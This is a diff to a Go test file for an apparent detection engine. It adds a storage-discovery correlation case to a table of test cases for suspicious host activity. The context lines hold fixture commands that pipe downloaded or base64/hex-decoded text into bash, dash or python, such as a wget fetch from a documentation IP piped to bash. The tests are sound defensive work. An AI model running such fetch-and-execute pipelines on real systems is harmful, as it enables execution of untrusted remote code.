@@ -294,6 +294,7 @@ func TestBuiltinCorrelations(t *testing.T) {
 		{"Accounts and users are asked for in several ways", 3, func(i int) event.Event { return ask(i, "UserDiscovery") }},
 		{"Network is explored in several ways", 3, func(i int) event.Event { return ask(i, "NetworkConnectionsDiscovery") }},
 		{"Files are listed in several ways", 3, func(i int) event.Event { return ask(i, "FileDiscovery") }},
+		{"System is described in several ways", 4, func(i int) event.Event { return ask(i, "StorageDiscovery") }},
 		{"Decoded text goes into a shell or interpreter", 2, pipe("/usr/bin/basenc", "basenc -d --base64", "/usr/bin/dash", "dash -s x")},
 		{"Decoded text goes into a shell or interpreter", 2, pipe("/usr/bin/python3.11", "python3 -", "/usr/bin/xxd", "xxd -r -p")},
 		{"Downloaded text goes into a shell or interpreter", 2, pipe("/usr/bin/wget", "wget -qO- http://192.0.2.1/a", "/usr/bin/bash", "bash")},
